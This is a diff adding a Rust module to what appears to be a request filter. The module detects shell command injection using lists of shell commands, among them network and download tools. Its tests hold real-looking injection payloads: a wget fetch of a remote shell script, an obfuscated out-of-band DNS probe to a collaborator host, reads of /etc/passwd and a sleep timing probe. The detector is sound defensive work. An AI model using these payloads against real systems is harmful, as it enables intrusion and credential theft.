@@ -1,0 +1,313 @@
+//! Command injection by shell tokenisation (rules 5000 and 5002).
+//!
+//! A keyword list alone blocks prose (`heroine; more than that`, `rm -rf is dangerous; chmod
+//! 755 is what you want`) and markdown (`` `ls -la` `` in a comment). So after each shell
+//! separator (`;`, `|`, `&`, newline, backtick, `$(`) the *clause* up to the next separator is
+//! tokenised the way a shell would (`$IFS`, `+` and `,` count as blanks) and judged: a known
+//! command followed by shell-like arguments (options, paths, variables, quotes, numbers, host
+//! names, redirections) and at most one plain word is a command; a command followed by a
+//! sentence is prose. Backtick spans that read as markdown inline code inside prose are not
+//! separators.
+
+use crate::request::Location;
+
+/// Commands that are rarely English words: any clause shape counts.
+const UNAMBIGUOUS: &[&str] = &[
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "ncat",
+    "netcat",
+    "bash",
+    "zsh",
+    "ksh",
+    "nslookup",
+    "getent",
+    "chmod",
+    "chown",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "telnet",
+    "ifconfig",
+    "ipconfig",
+    "systeminfo",
+    "powershell",
+    "printenv",
+    "useradd",
+    "crontab",
+    "tftp",
+    "base64",
+    "xxd",
+    "nohup",
+    "tasklist",
+    "certutil",
+    "bitsadmin",
+    "sudo",
+    "nc",
+    "sh",
+    "cmd",
+    "ls",
+    "id",
+    "netstat",
+    "uid",
+    "pwd",
+    "printf",
+    "rev",
+    "xargs",
+    "socat",
+    "busybox",
+    "openssl",
+];
+
+/// Commands that are also words of prose: they need shell-like arguments or a bare clause.
+const AMBIGUOUS: &[&str] = &[
+    "cat",
+    "rm",
+    "ps",
+    "cp",
+    "mv",
+    "su",
+    "ping",
+    "dig",
+    "host",
+    "echo",
+    "net",
+    "dir",
+    "type",
+    "more",
+    "less",
+    "sleep",
+    "kill",
+    "env",
+    "passwd",
+    "ftp",
+    "scp",
+    "ssh",
+    "find",
+    "head",
+    "tail",
+    "set",
+    "timeout",
+    "rename",
+    "touch",
+    "export",
+    "exec",
+    "eval",
+    "grep",
+    "awk",
+    "sed",
+    "mkdir",
+    "del",
+    "copy",
+    "start",
+    "call",
+    "whois",
+    "traceroute",
+    "tracert",
+    "reg",
+    "wmic",
+    "net1",
+];
+
+/// Rule 5000: a separator followed by a command clause.
+pub(super) fn chained_command(v: &str, _loc: Location) -> bool {
+    let b = v.as_bytes();
+    if !b.iter().any(|c| b";|&\n`".contains(c)) && !v.contains("$(") {
+        return false;
+    }
+    let prose = is_prose(v);
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let sep_len = match c {
+            b';' | b'|' | b'&' | b'\n' => 1,
+            b'`' if !(prose && markdown_code(b, i)) => 1,
+            b'$' if b.get(i + 1) == Some(&b'(') => 2,
+            _ => 0,
+        };
+        if sep_len > 0 && command_clause(&v[i + sep_len..], c == b'\n' || prose) {
+            return true;
+        }
+        i += sep_len.max(1);
+    }
+    false
+}
+
+/// Rule 5002: `` `cmd ...` `` or `$(cmd ...)` with a known command, or `$((a*b))` arithmetic.
+pub(super) fn substitution(v: &str, _loc: Location) -> bool {
+    let b = v.as_bytes();
+    let prose = is_prose(v);
+    for (i, &c) in b.iter().enumerate() {
+        let inner = match c {
+            b'`' if !(prose && markdown_code(b, i)) => {
+                match b[i + 1..].iter().position(|&x| x == b'`') {
+                    Some(n) => &v[i + 1..i + 1 + n],
+                    None => continue,
+                }
+            }
+            b'$' if b.get(i + 1) == Some(&b'(') => {
+                if b.get(i + 2) == Some(&b'(') && arithmetic(&v[i + 3..]) {
+                    return true;
+                }
+                match b[i + 2..].iter().position(|&x| x == b')') {
+                    Some(n) => &v[i + 2..i + 2 + n],
+                    None => &v[i + 2..],
+                }
+            }
+            _ => continue,
+        };
+        let word = first_word(inner.trim_start());
+        if is_command(word, true) {
+            return true;
+        }
+    }
+    false
+}
+
+fn arithmetic(s: &str) -> bool {
+    let end = s.find("))").unwrap_or(s.len());
+    let e = &s[..end];
+    !e.is_empty()
+        && e.bytes().any(|c| b"*+-/".contains(&c))
+        && e.bytes()
+            .all(|c| c.is_ascii_digit() || b"*+-/ ".contains(&c))
+}
+
+fn first_word(s: &str) -> &str {
+    let end = s
+        .find(|c: char| !(c.is_ascii_alphanumeric() || "_./-".contains(c)))
+        .unwrap_or(s.len());
+    &s[..end]
+}
+
+/// The basename of `w`, when it is a known command (`/bin/cat` -> `cat`).
+fn is_command(w: &str, any: bool) -> bool {
+    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    let lower = base.to_ascii_lowercase();
+    UNAMBIGUOUS.contains(&lower.as_str()) || (any && AMBIGUOUS.contains(&lower.as_str()))
+}
+
+/// Whether `rest` (the text after a separator) starts with a command clause.
+fn command_clause(rest: &str, strict: bool) -> bool {
+    let t = rest.trim_start_matches([' ', '\t', '{', '(', '\r']);
+    let word = first_word(t);
+    if word.is_empty() || !is_command(word, true) {
+        return false;
+    }
+    let after = &t[word.len()..];
+    // The clause ends at the next separator.
+    let end = after
+        .find([';', '|', '&', '\n', '`', ')', '}'])
+        .unwrap_or(after.len());
+    let clause = after[..end]
+        .replace("${IFS}", " ")
+        .replace("$IFS$9", " ")
+        .replace("$IFS", " ")
+        .replace(['+', ',', '\t'], " ");
+    if !clause.is_empty() && !clause.starts_with(' ') && !clause.starts_with(['<', '>', '\'', '"'])
+    {
+        return false; // `cats`, `id_card`: not the command
+    }
+    let (mut plain, mut shell) = (0usize, 0usize);
+    for tok in clause.split(' ').filter(|t| !t.is_empty()) {
+        if shell_arg(tok) {
+            shell += 1;
+        } else {
+            plain += 1;
+        }
+    }
+    let unamb = is_command(word, false);
+    if plain == 0 && shell == 0 {
+        // A bare command: `;id`, `|whoami;`. Prose rarely ends a clause on a command word.
+        return !strict || unamb;
+    }
+    plain <= 1 && (shell > 0 || (unamb && !strict))
+}
+
+/// Options, paths, variables, quotes, numbers, host names, redirections, globs.
+fn shell_arg(t: &str) -> bool {
+    let first = t.as_bytes()[0];
+    b"-/.~$'\"\\<>*0123456789%@".contains(&first)
+        || t.contains(['/', '=', '\\', '$', '*'])
+        || host_name(t.strip_suffix('.').unwrap_or(t))
+        || t.len() >= 2 && t.as_bytes()[1] == b':'
+}
+
+/// `example.com`, `a.b.c`: dot-separated labels.
+fn host_name(t: &str) -> bool {
+    t.contains('.')
+        && t.split('.')
+            .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
+}
+
+/// Text with several words of prose: a sentence, not a parameter.
+fn is_prose(v: &str) -> bool {
+    v.split_whitespace()
+        .filter(|w| w.len() >= 2 && w.chars().all(|c| c.is_alphabetic() || ",.!?'".contains(c)))
+        .count()
+        >= 6
+}
+
+/// A backtick at `i` that opens or closes markdown inline code: blank or punctuation outside,
+/// text inside.
+fn markdown_code(b: &[u8], i: usize) -> bool {
+    let outside_ok = |c: Option<&u8>| {
+        c.is_none_or(|c| c.is_ascii_whitespace() || b"([{\"'.,:;!?)]}*_-".contains(c))
+    };
+    let before = if i == 0 { None } else { b.get(i - 1) };
+    let after = b.get(i + 1);
+    if before == Some(&b'`') || after == Some(&b'`') {
+        return true; // ``` fences and `` double backticks ``
+    }
+    // Opening: blank before, text after. Closing: text before, blank after. Fences: ``` runs.
+    (outside_ok(before) && after.is_some_and(|c| !c.is_ascii_whitespace()))
+        || (before.is_some_and(|c| !c.is_ascii_whitespace()) && outside_ok(after))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn command_clauses() {
+        let l = Location::QueryArg;
+        let attacks = [
+            ";wget http://some_host/sh311.sh",
+            "|getent+hosts+somehost.burpcollaborator.net.&",
+            ";getent$IFS$9hosts$IFS$9somehost.burpcollaborator.net;echo$IFS$9$((3482*7301));",
+            "| set /a 3482*7301",
+            "ax--exec=`id`--remote=origin",
+            "; cat /et'c/pa'ss'wd",
+            "cmd=127.0.0.1 && ls /etc",
+            "127.0.0.1; ping -c 10 127.0.0.1",
+            "x|whoami",
+            "a;/bin/cat /etc/passwd",
+            "1 && sleep 5 &&",
+        ];
+        for a in attacks {
+            assert!(chained_command(a, l) || substitution(a, l), "missed {a:?}");
+        }
+        let benign = [
+            "The Senora found herself a heroine; more than that, she became aware",
+            "BASE; SET SWAROVSKI",
+            "rm -rf is dangerous; chmod 755 is what you want for the uploads folder.",
+            "Kill the lights, set the table, and don't forget the cat's dinner!",
+            "Tom & Jerry",
+            "Use `git log --oneline` to see the history, then `git rebase -i HEAD~3` please ok.",
+            "Some words here to make prose.\n\n```bash\n$ ls -la ~/projects\n```\nthanks a lot",
+            "fish & chips; cats and dogs",
+        ];
+        for b in benign {
+            assert!(
+                !chained_command(b, l) && !substitution(b, l),
+                "false positive {b:?}"
+            );
+        }
+    }
+}
